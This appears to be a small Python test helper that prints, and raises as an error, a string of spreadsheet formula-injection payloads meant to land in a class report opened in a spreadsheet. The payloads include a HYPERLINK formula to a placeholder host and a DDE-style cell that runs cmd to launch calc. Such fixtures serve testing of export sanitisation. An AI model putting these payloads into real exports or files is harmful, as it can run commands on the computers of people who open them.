"""Writes texts that a spreadsheet would run as formulas, for a class report that is opened in one."""

EVIL = '=HYPERLINK("http://example.invalid";"100")\n@SUM(1+1)*cmd|"/C calc"!A0\n+1+1\n-1+1\n\t=1+1\n"",,"\r\n=1'


def attack(*args, **kwargs):
    print(EVIL)
    raise ValueError(EVIL)
